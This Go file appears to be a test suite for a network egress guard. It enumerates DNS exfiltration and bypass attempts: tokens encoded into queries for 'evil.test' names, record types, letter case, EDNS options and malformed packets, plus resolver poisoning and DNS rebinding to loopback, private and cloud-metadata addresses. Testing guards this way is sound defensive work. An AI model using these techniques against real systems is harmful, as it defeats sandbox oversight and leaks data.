// SPDX-License-Identifier: Apache-2.0

package bypass

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// named is what the rules of a task allow whose technique is about names.
func named(more ...string) []string {
	return append([]string{"good.test:443", "good.test:80", "other.test:443", "*.wild.test:443", "stale.test:443"}, more...)
}

// asked picks questions to the resolvers, and what belongs to them.
func asked(p packet) bool { return (p.dst == resolver4 || p.dst == resolver6) && p.dport == dnsPort }

// outsider is a name that no rule of named has, with the token in it.
func outsider(token string) string { return token + ".evil.test." }

// insider is one that a wildcard allows, which its servers may know.
func insider(token string) string { return token + ".wild.test." }

func query(name string, kind uint16) *dns.Msg {
	q := new(dns.Msg).SetQuestion(name, kind)
	q.SetEdns0(1232, false)
	return q
}

func packed(q *dns.Msg) []byte {
	data, err := q.Pack()
	if err != nil {
		panic(err) // the suite made it
	}
	return data
}

// plainQuery asks for the token in a name that no rule has.
func plainQuery(a *attempt) []byte { return packed(query(outsider(a.token), dns.TypeA)) }

// inTCP is a message as TCP has it.
func inTCP(data []byte) []byte {
	return append(binary.BigEndian.AppendUint16(nil, uint16(len(data))), data...)
}

// settled waits for an answer, whatever it is, or for the end: what the guard
// does for a task has then been done. It returns how the socket was cut, if it
// was.
func (s sock) settled(limit time.Duration) error {
	tv := unix.NsecToTimeval(int64(limit))
	if err := unix.SetsockoptTimeval(int(s), unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return step("setsockopt time limit", err)
	}
	if _, err := unix.Read(int(s), make([]byte, 1<<12)); err != nil && !errors.Is(err, unix.EAGAIN) {
		return step("read", err)
	}
	return nil
}

const patient = 300 * time.Millisecond

// asking sends one datagram to a resolver.
func asking(to netip.AddrPort, question func(*attempt) []byte) func(*attempt) error {
	return udpSocket(to.Addr(), func(a *attempt, s sock) error {
		if err := s.sendTo(question(a), 0, to); err != nil {
			return err
		}
		return s.settled(patient)
	})
}

// askingTCP sends it over TCP, in pieces of that size.
func askingTCP(to netip.AddrPort, size int) func(*attempt) error {
	return tcpSocket(to.Addr(), func(a *attempt, s sock) error {
		if err := s.connect(to); err != nil {
			return err
		}
		if err := s.set(unix.IPPROTO_TCP, unix.TCP_NODELAY, 1); err != nil {
			return err
		}
		for data := inTCP(plainQuery(a)); len(data) > 0; data = data[min(size, len(data)):] {
			if err := s.write(data[:min(size, len(data))]); err != nil {
				return err
			}
		}
		return s.settled(patient)
	})
}

// lookUp asks the resolver that everybody has, as a library does.
func (a *attempt) lookUp(name string) (netip.Addr, error) {
	return resolve(at(resolver4, dnsPort), "udp", name, dns.TypeA)
}

func resolve(from netip.AddrPort, network, name string, kind uint16) (netip.Addr, error) {
	client := dns.Client{Net: network, Timeout: 2 * time.Second}
	r, _, err := client.Exchange(query(name, kind), from.String())
	if err != nil {
		return netip.Addr{}, step("look up "+name, err)
	}
	for _, rr := range r.Answer {
		switch rr := rr.(type) {
		case *dns.A:
			addr, _ := netip.AddrFromSlice(rr.A.To4())
			return addr, nil
		case *dns.AAAA:
			addr, _ := netip.AddrFromSlice(rr.AAAA.To16())
			return addr, nil
		}
	}
	return netip.Addr{}, fmt.Errorf("look up %s: no address: %s", name, strings.ReplaceAll(r.String(), "\n", " "))
}

// onWireAs is how a question looks in a message.
func onWireAs(name string, kind uint16) string {
	b := make([]byte, 256)
	n, err := dns.PackDomainName(name, b, 0, nil, false)
	if err != nil {
		panic(err)
	}
	return string(binary.BigEndian.AppendUint16(b[:n], kind))
}

// inCase tells the token in the case of letters.
func inCase(token string) string {
	bits, _ := strconv.ParseUint(strings.TrimPrefix(token, "token-"), 16, 64)
	label := []byte("abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefgh")
	for i := range label {
		if bits>>i&1 != 0 {
			label[i] -= 'a' - 'A'
		}
	}
	return string(label)
}

func questions() []technique {
	to := at(resolver4, dnsPort)
	ask := func(name, what string, to netip.AddrPort, question func(*attempt) []byte) technique {
		return technique{name: name, what: what, allow: named(), beside: asked, stop: "resolver", try: asking(to, question)}
	}
	changed := func(change func(a *attempt, q *dns.Msg)) func(*attempt) []byte {
		return func(a *attempt) []byte {
			q := query("good.test.", dns.TypeA)
			change(a, q)
			return packed(q)
		}
	}
	kind := func(name, what string, kind uint16) technique {
		t := ask(name, what, to, func(a *attempt) []byte { return packed(query(insider(a.token), kind)) })
		t.mark = func(token string) string { return onWireAs(insider(token), kind) }
		return t
	}
	connected := func(a *attempt, s sock) error {
		if err := s.connect(to); err != nil {
			return err
		}
		if err := s.write(plainQuery(a)); err != nil {
			return err
		}
		return s.settled(patient)
	}
	record := func(a *attempt) dns.RR {
		return &dns.TXT{Hdr: dns.RR_Header{Name: "good.test.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{a.token}}
	}
	cased := ask("dns-case", "the case of letters of an allowed name", to, func(a *attempt) []byte {
		return packed(query(inCase(a.token)+".wild.test.", dns.TypeA))
	})
	cased.mark = inCase
	all := []technique{
		ask("dns-name", "a question for a name that no rule has", to, plainQuery),
		ask("dns-name6", "the same over IPv6", at(resolver6, dnsPort), plainQuery),
		{name: "dns-connected", what: "the same from a connected socket", allow: named(), beside: asked, stop: "resolver", try: udpSocket(resolver4, connected)},
		{name: "dns-tcp", what: "the same over TCP", allow: named(), beside: asked, stop: "resolver", try: askingTCP(to, 1<<10)},
		{name: "dns-tcp6", what: "the same over TCP and IPv6", allow: named(), beside: asked, stop: "resolver", try: askingTCP(at(resolver6, dnsPort), 1<<10)},
		{name: "dns-tcp-split", what: "the same over TCP, octet by octet", allow: named(), beside: asked, stop: "resolver", try: askingTCP(to, 1)},
		{name: "dns-fastopen", what: "the same over TCP, on the SYN", allow: named(), beside: asked, stop: "resolver", try: tcpSocket(resolver4, func(a *attempt, s sock) error {
			if err := s.sendTo(inTCP(plainQuery(a)), unix.MSG_FASTOPEN, to); err != nil {
				return err
			}
			return s.settled(patient)
		})},
		{name: "dns-mapped", what: "the same to an IPv4-mapped address", allow: named(), beside: asked, stop: "resolver", try: udpSocket(resolver6, func(a *attempt, s sock) error {
			if err := s.sendTo(plainQuery(a), 0, at(mapped(resolver4), dnsPort)); err != nil {
				return err
			}
			return s.settled(patient)
		})},
		{name: "dns-sendmmsg", what: "two of them by sendmmsg", allow: named(), beside: asked, stop: "resolver", try: udpSocket(resolver4, func(a *attempt, s sock) error {
			if err := s.sendMany(plainQuery(a), to, to); err != nil {
				return err
			}
			return s.settled(patient)
		})},
		kind("dns-txt", "another type of an allowed name: TXT", dns.TypeTXT),
		kind("dns-null", "another type of an allowed name: NULL", dns.TypeNULL),
		kind("dns-any", "another type of an allowed name: ANY", dns.TypeANY),
		kind("dns-type", "another type of an allowed name: one that nobody has defined", 65399),
		cased,
		ask("dns-edns", "an EDNS option beside an allowed name", to, changed(func(a *attempt, q *dns.Msg) {
			q.IsEdns0().Option = append(q.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: a.payload()})
		})),
		ask("dns-second", "a second question beside an allowed name", to, changed(func(a *attempt, q *dns.Msg) {
			q.Question = append(q.Question, dns.Question{Name: outsider(a.token), Qtype: dns.TypeA, Qclass: dns.ClassINET})
		})),
		ask("dns-additional", "an additional record beside an allowed name", to, changed(func(a *attempt, q *dns.Msg) {
			q.Extra = append(q.Extra, record(a))
		})),
		ask("dns-answer", "a message that claims to be an answer", to, changed(func(a *attempt, q *dns.Msg) {
			q.Response, q.Answer = true, []dns.RR{record(a)}
		})),
		ask("dns-update", "a dynamic update", to, changed(func(a *attempt, q *dns.Msg) {
			q.Opcode, q.Ns = dns.OpcodeUpdate, []dns.RR{record(a)}
		})),
		ask("dns-chaos", "a question of another class", to, func(a *attempt) []byte {
			q := query(insider(a.token), dns.TypeTXT)
			q.Question[0].Qclass = dns.ClassCHAOS
			return packed(q)
		}),
		ask("dns-trailing", "octets behind a question for an allowed name", to, func(a *attempt) []byte {
			return append(packed(query("good.test.", dns.TypeA)), a.payload()...)
		}),
		ask("dns-pointer", "a question that points to a name further on", to, func(a *attempt) []byte {
			q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 18, 0, 1, 0, 1}
			return append(q, onWireAs(outsider(a.token), dns.TypeA)...)
		}),
		ask("dns-malformed", "no DNS at all to the resolver's port", to, (*attempt).payload),
		ask("dns-large", "a question of 4,000 octets, in fragments", to, func(a *attempt) []byte {
			q := query(outsider(a.token), dns.TypeA)
			q.IsEdns0().Option = append(q.IsEdns0().Option, &dns.EDNS0_PADDING{Padding: make([]byte, 4000)})
			return packed(q)
		}),
		{name: "dns-port", what: "DNS by hand to another port of the resolver", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect", try: asking(at(resolver4, deniedPort), plainQuery)},
		{name: "dns-rule", what: "a question for a name that no rule has, where a rule allows the resolver's address", allow: named("udp://198.51.100.53:53"), beside: asked, stop: "resolver", try: asking(to, plainQuery)},
		{
			name: "dns-before", what: "a socket connected to the resolver by address, before the policy had names", beside: asked, stop: "egress",
			allow: []string{"udp://198.51.100.53:53"}, try: udpSocket(resolver4, func(a *attempt, s sock) error {
				if err := s.connect(to); err != nil {
					return err
				}
				a.say("connected")
				if _, err := a.hear(); err != nil {
					return err
				}
				if err := s.write(plainQuery(a)); err != nil {
					return err
				}
				return s.settled(patient)
			}), assist: becomesNamed,
		}, {
			name: "dns-raw", what: "a question by a raw socket, where the policy allows raw sockets and a rule the resolver's address", class: netRaw,
			proof: onWire, allow: named("udp://198.51.100.53:53"), policy: []string{"raw: allow"}, beside: asked, errno: unix.EPERM, stop: "egress",
			try: rawTo(resolver4, func(a *attempt) []byte { return udpDatagram(40448, dnsPort, plainQuery(a)) }),
		}, {
			name: "dns-poison", what: "an answer for an allowed name from a resolver of the attacker's, and a connection to where it leads", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect",
			try: func(a *attempt) error {
				addr, err := resolve(at(denied4, dnsPort), "udp", "good.test.", dns.TypeA)
				if err == nil && addr != denied4 && addr != shared4 {
					return fmt.Errorf("the answer is %s", addr)
				}
				return a.greet(at(denied4, allowedPort), hello(a, "good.test"))
			},
		}, {
			name: "dns-poison-rule", what: "the same where a rule allows the attacker's address on another port", allow: named("198.51.100.66:22"), beside: asked, errno: unix.EPERM, stop: "connect",
			try: func(a *attempt) error {
				_, err := resolve(at(denied4, dnsPort), "tcp", "good.test.", dns.TypeA)
				return errors.Join(err, a.greet(at(denied4, allowedPort), hello(a, "good.test")))
			},
		}, {
			name: "dns-own", what: "a resolver of the task's own on loopback says that an allowed name leads to the attacker", class: root, allow: named(), beside: asked, errno: unix.EPERM, stop: "connect",
			try: func(a *attempt) error {
				s, err := open(unix.AF_INET, unix.SOCK_DGRAM, 0)
				if err != nil {
					return err
				}
				defer s.close()
				own := at(netip.MustParseAddr("127.0.0.1"), dnsPort)
				if err := s.bind(own); err != nil {
					return err
				}
				go func() {
					buffer := make([]byte, 1<<12)
					if n, from, err := unix.Recvfrom(int(s), buffer, 0); err == nil {
						_ = unix.Sendto(int(s), answerOf(buffer[:n], poison), 0, from)
					}
				}()
				_, _ = resolve(own, "udp", "good.test.", dns.TypeA)
				return a.greet(at(denied4, allowedPort), hello(a, "good.test"))
			},
		},
	}
	taken := technique{
		name: "dns-taken", what: "another task on the port of the guard's resolver, which is down, is told a question", class: root, proof: atOther,
		alone: true, allow: named(), errno: unix.ECONNREFUSED, stop: "connect",
		try: func(a *attempt) error {
			if _, err := a.hear(); err != nil {
				return err
			}
			// With the guard the first would be turned to the second.
			return errors.Join(asking(to, plainQuery)(a), asking(at(netip.MustParseAddr("127.0.0.1"), stationPort), plainQuery)(a))
		},
		assist: func(t *trial) error {
			other, err := t.startOther("other-udp", spec{})
			if err != nil {
				return err
			}
			if err := other.tell(strconv.Itoa(stationPort)); err != nil {
				return err
			}
			if _, err := other.expect("port"); err != nil {
				return err
			}
			return t.process.tell("taken")
		},
	}
	return append(all, taken)
}

// rawTo sends what follows the IP header.
func rawTo(to netip.Addr, data func(*attempt) []byte) func(*attempt) error {
	return func(a *attempt) error {
		s, err := openFor(to, unix.SOCK_RAW, unix.IPPROTO_UDP)
		if err != nil {
			return err
		}
		defer s.close()
		return s.sendTo(data(a), 0, at(to, 0))
	}
}

// becomesNamed gives the task a policy of names when its process is connected.
func becomesNamed(t *trial) (err error) {
	tellErr := t.process.tellAfter("connected", "go on", func() {
		if t.task != nil {
			err = t.task.apply(spec{allow: append(named(), t.technique.allow...)})
		}
	})
	return errors.Join(err, tellErr)
}

// learnt is what else one could do with an address that a name has led to.
func learnt() []technique {
	after := func(name string, fn func(a *attempt, addr netip.Addr) error) func(*attempt) error {
		return func(a *attempt) error {
			addr, err := a.lookUp(name)
			if err != nil {
				return err
			}
			return fn(a, addr)
		}
	}
	good := func(fn func(a *attempt, addr netip.Addr) error) func(*attempt) error { return after("good.test.", fn) }
	return []technique{
		{name: "name-port", what: "another port of an allowed name's address", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect", try: good(func(a *attempt, addr netip.Addr) error {
			return a.greet(at(addr, deniedPort), hello(a, "good.test"))
		})},
		{name: "name-quic", what: "UDP (QUIC) to an allowed name's address", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect", try: good(func(a *attempt, addr netip.Addr) error {
			return udpTo(at(addr, allowedPort))(a)
		})},
		{name: "name-ping", what: "a ping to an allowed name's address", proof: onWire, allow: named(), beside: asked, errno: unix.EPERM, stop: "connect", try: good(func(a *attempt, addr netip.Addr) error {
			return ping(addr, unix.IPPROTO_ICMP)(a)
		})},
		{name: "name-unasked", what: "the address of an allowed name that was never asked for", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect", try: func(a *attempt) error {
			return a.greet(at(shared4, allowedPort), hello(a, "good.test"))
		}},
		{name: "name-stale", what: "the address of an allowed name after its time", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect", try: after("stale.test.", func(a *attempt, addr netip.Addr) error {
			time.Sleep(2100 * time.Millisecond) // of whole seconds
			return a.greet(at(addr, allowedPort), hello(a, "stale.test"))
		})},
		{
			name: "name-other-task", what: "an address that only another task has asked for", allow: named(), beside: asked, errno: unix.EPERM, stop: "connect",
			try: func(a *attempt) error {
				if _, err := a.hear(); err != nil {
					return err
				}
				return a.greet(at(shared4, allowedPort), hello(a, "good.test"))
			}, assist: otherHasAsked("good.test:443"),
		}, {
			name: "name-other-cache", what: "a name that only another task may ask for, and has", allow: []string{"other.test:443"}, beside: asked, errno: unix.EPERM, stop: "connect",
			try: func(a *attempt) error {
				if _, err := a.hear(); err != nil {
					return err
				}
				// What the cache tells would be told on.
				if addr, err := a.lookUp("good.test."); err == nil {
					return udpSocket(addr, func(a *attempt, s sock) error {
						return s.sendTo(a.payload(), 0, at(addr, allowedPort))
					})(a)
				}
				return a.greet(at(shared4, allowedPort), hello(a, "good.test"))
			}, assist: otherHasAsked("good.test:443"),
		},
	}
}

// otherHasAsked lets another task look a name up first.
func otherHasAsked(rule string) func(*trial) error {
	return func(t *trial) error {
		other, err := t.startOther("other-asks", spec{allow: []string{rule}})
		if err != nil {
			return err
		}
		if _, err := other.expect("asked"); err != nil {
			return err
		}
		return t.process.tell("go on")
	}
}

func otherAsks(a *attempt) error {
	if _, err := a.lookUp("good.test."); err != nil {
		return err
	}
	a.say("asked")
	_, err := a.hear()
	return err
}

// insides are where an allowed name must not lead, by the label of the name.
func insides() map[string]netip.AddrPort {
	return map[string]netip.AddrPort{
		"loopback4":  at(netip.MustParseAddr("127.0.0.1"), hostPort),
		"loopback6":  at(netip.IPv6Loopback(), hostPort),
		"mapped":     at(mapped(netip.MustParseAddr("127.0.0.1")), hostPort),
		"host":       at(host4, hostPort),
		"private":    at(private4, allowedPort),
		"nat64":      at(private6, allowedPort),
		"metadata4":  at(metadata4, allowedPort),
		"metadata6":  at(metadata6, allowedPort),
		"link-local": at(sinkLinkLocal, allowedPort),
	}
}

// rebindings are allowed names that their owner lets lead inside.
func rebindings() []technique {
	var all []technique
	for _, label := range []string{"loopback4", "loopback6", "mapped", "host", "private", "nat64", "metadata4", "metadata6", "link-local"} {
		to := insides()[label]
		t := technique{
			name: "rebind-" + label, what: "an allowed name that leads to " + to.Addr().String(), beside: asked, errno: unix.EPERM, stop: "connect",
			allow: []string{"*.rebind.test:443", "*.rebind.test:7001"}, policy: []string{"tls: off"},
			try: func(a *attempt) error {
				kind := dns.TypeA
				if to.Addr().Is6() {
					kind = dns.TypeAAAA
				}
				if _, err := resolve(at(resolver4, dnsPort), "udp", label+".rebind.test.", kind); err != nil {
					a.say(err.Error())
				}
				there := to
				if label == "link-local" {
					there = at(to.Addr().WithZone(hostLink), to.Port())
				}
				return tcp(there)(a)
			},
		}
		if to.Port() == hostPort {
			t.proof = atNeighbour
		}
		all = append(all, t)
	}
	private := all[4]
	private.name, private.what = "rebind-port", "an allowed name that leads to 10.0.0.66, where a rule has that network on another port"
	private.allow = append([]string{"10.0.0.0/24:22"}, private.allow...)
	return append(all, private)
}
